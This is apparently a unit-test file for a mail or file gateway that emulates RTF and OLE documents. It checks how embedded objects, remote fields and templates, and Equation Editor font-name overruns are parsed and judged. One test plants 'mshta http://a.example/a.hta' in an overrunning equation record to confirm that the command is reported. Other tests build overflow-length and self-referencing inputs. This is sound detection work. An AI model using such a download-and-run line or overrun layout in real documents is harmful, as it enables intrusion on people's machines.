"""Objects in rich text and documents: told by their class, read through disguises, never guessed."""

from __future__ import annotations

import struct

import pytest

from gateway.emulation import Detonation, StopKind
from gateway.emulation.office.content import Content
from gateway.emulation.office.equation import FILE_HEADER, EquationError, overrun
from gateway.emulation.office.oleobjects import take_compound
from gateway.emulation.office.rtf import read_rtf
from gateway.emulation.scripts import ScriptEnvironment
from gateway.extraction.contract import ExtractError
from gateway.model import Verdict
from tests.unit.emulation.judging import expect_stopped, ran, verdict_of
from tools.corpus.detections import rtf_files as files

_PACKED = files.ole1("Package", files.package("notes.txt", b"words of the file"))


def _run(office: ScriptEnvironment, body: str) -> Detonation:
    return ran(office, "d.rtf", "rtf", files.text(body))


def _in(digits: str) -> bytes:
    return files.text(files.embedded("Package", b"", digits=digits))


@pytest.mark.parametrize(
    ("digits", "why"),
    [
        (_PACKED.hex(), "as it is"),
        (_PACKED.hex().upper(), "in capitals"),
        (files.lines(_PACKED, 7), "in lines of odd length"),
        (files.disguised(_PACKED), "between groups, words and single digits"),
        ("{" + _PACKED.hex() + "}", "in a group of its own"),
        (_PACKED.hex()[:40] + r"{\pict 0102}" + _PACKED.hex()[40:], "around a picture"),
        (_PACKED.hex()[:40] + r"{\*\zzz 01}" + _PACKED.hex()[40:], "around an unknown group"),
        (_PACKED.hex()[:40] + r"\zzz01 " + _PACKED.hex()[40:], "around a word with a number"),
        (_PACKED.hex() + "0", "with a digit too many"),
    ],
)
def test_data_of_an_object_is_read_as_word_reads_it(digits: str, why: str) -> None:
    assert read_rtf(_in(digits)).embedded == [("notes.txt", b"words of the file")], why


@pytest.mark.parametrize("length", range(0, 900, 13))
def test_a_text_that_is_cut_off_is_read_or_refused(length: int) -> None:
    whole = _in(files.disguised(_PACKED))
    try:
        read_rtf(whole[:length])
    except ExtractError as error:
        assert str(error), "a refusal has its reason"


def test_an_object_that_nobody_knows_is_unscanned_by_its_name(office: ScriptEnvironment) -> None:
    result = _run(office, files.embedded("Contoso.Gadget.1", b"some data"))
    expect_stopped(result, StopKind.INCOMPLETE)
    assert result.stopped_by is not None
    assert "Contoso.Gadget.1" in result.stopped_by.detail


def test_a_bare_object_that_nobody_knows_is_unscanned_by_its_class(
    office: ScriptEnvironment,
) -> None:
    result = ran(office, "o.bin", "ole", files.whole_file("Gadget", b"data", bytes(range(16))))
    expect_stopped(result, StopKind.INCOMPLETE)
    assert result.stopped_by is not None
    assert "03020100-0504-0706-0809-0A0B0C0D0E0F" in result.stopped_by.detail


def test_a_document_in_an_object_comes_back(office: ScriptEnvironment) -> None:
    data = files.whole_file("CONTENTS", b"%PDF-1.4 of somebody", files.ACROBAT)
    result = ran(office, "o.bin", "ole", data)
    assert [(each.path, each.data) for each in result.children] == [
        ("object-1.pdf", b"%PDF-1.4 of somebody")
    ]


def test_an_equation_that_cannot_be_read_is_suspicious_where_it_loads_by_itself(
    office: ScriptEnvironment,
) -> None:
    strange = files.equation(b"\x03\x01\x01\x03\x0a\x0f" + bytes(40))
    quiet = _run(office, files.embedded("Equation.3", strange))
    assert verdict_of(quiet) is Verdict.UNSCANNED
    loaded = _run(office, files.embedded("Equation.3", strange, words=r"\objemb\objupdate"))
    assert verdict_of(loaded) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("field", "verdict", "host"),
    [
        (r'INCLUDEPICTURE "http://p.example/a.png" \\d', Verdict.CLEAN, "p.example:80"),
        (r'INCLUDETEXT "http://t.example/a.rtf"', Verdict.SUSPICIOUS, "t.example:80"),
        (r'INCLUDEPICTURE "\\\\\\\\s.example\\\\a\\\\b.png"', Verdict.SUSPICIOUS, "s.example:445"),
        (r'HYPERLINK "http://l.example/"', Verdict.CLEAN, ""),
    ],
)
def test_what_fields_ask_for_is_told(
    office: ScriptEnvironment, field: str, verdict: Verdict, host: str
) -> None:
    result = _run(office, files.field(field))
    asked = [each.target for each in result.behaviours if each.kind == "network"]
    assert asked == ([host] if host else [])
    assert verdict_of(result) is verdict


def test_a_template_of_the_network_is_suspicious(office: ScriptEnvironment) -> None:
    result = _run(office, r"{\*\template http://t.example/a.dotm}text")
    assert verdict_of(result) is Verdict.SUSPICIOUS


def test_the_command_in_an_overrun_is_told(office: ScriptEnvironment) -> None:
    data = files.equation(files.overrunning("mshta http://a.example/a.hta & "))
    lines = [
        each.arguments[0]
        for each in ran(office, "o.bin", "ole", data).behaviours
        if each.kind == "process"
    ]
    assert lines and lines[0].startswith("mshta http://a.example/a.hta")


@pytest.mark.parametrize(("letters", "overruns"), [(31, False), (32, True)])
def test_a_fonts_name_has_room_for_31_bytes(letters: int, overruns: bool) -> None:
    records = b"\x03\x01\x01\x03\x0a\x08\x07\x00" + b"N" * letters + b"\0\0"
    found = overrun(files.equation_stream(records), FILE_HEADER)
    assert (found is not None) == overruns


@pytest.mark.parametrize("length", range(100))
def test_an_equation_that_is_cut_off_is_read_or_refused(length: int) -> None:
    stream = files.equation_stream(files.fraction())
    try:
        assert overrun(stream[:length], FILE_HEADER) is None
    except EquationError as error:
        assert str(error), "a refusal has its reason"


def test_an_object_larger_than_its_data_is_taken_as_far_as_it_goes() -> None:
    data = bytearray(_PACKED)
    struct.pack_into("<I", data, 12 + 8 + 8, 0x7FFFFFFF)
    assert read_rtf(_in(data.hex())).embedded[0][0] == "notes.txt"


def test_an_object_whose_directory_leads_back_into_itself_is_unread() -> None:
    data = bytearray(files.package_object("notes.txt", b"words"))
    directory = data.index("Root Entry".encode("utf-16-le"))
    below = directory + 128
    struct.pack_into("<I", data, below + 76, 1)  # an entry that is its own child
    data[below + 66] = 1
    content = Content("word")
    take_compound(bytes(data), content, alone=True)
    assert content.unread and not content.embedded
